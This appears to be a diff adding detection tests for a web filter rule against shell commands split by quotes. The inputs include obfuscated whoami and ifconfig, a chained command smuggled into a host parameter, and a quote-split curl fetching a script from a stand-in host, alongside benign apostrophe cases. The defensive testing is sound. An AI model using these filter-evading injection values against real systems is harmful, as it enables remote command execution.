@@ -135,3 +135,22 @@ describe('Java, PHP and template injection, round 6 (JAVA-100, JAVA-110, PHP-110
     expectAllowed(req);
   });
 });
+
+describe('Commands split by quotes inside the word (RCE-202)', () => {
+  it.each([
+    ['single quotes around the first letter', "'i'fconfig"],
+    ['double quotes inside the word', 'w"h"oami'],
+    ['a split download command with a host', "'c'url evil.example/x.sh"],
+    ['a chained split command', "1;'wh'oami"],
+  ])('blocks %s at sensitivity 70', (_name, value) => {
+    expectDetected(get(`/ping?host=${encodeURIComponent(value)}`), 'RCE-202');
+  });
+
+  it.each([
+    ['a name with apostrophes', "O'keefe's"],
+    ['a command word quoted as a whole', "'id'"],
+    ['a sentence with a contraction', "It's the id card"],
+  ])('allows %s', (_name, value) => {
+    expectAllowed(get(`/ping?host=${encodeURIComponent(value)}`));
+  });
+});
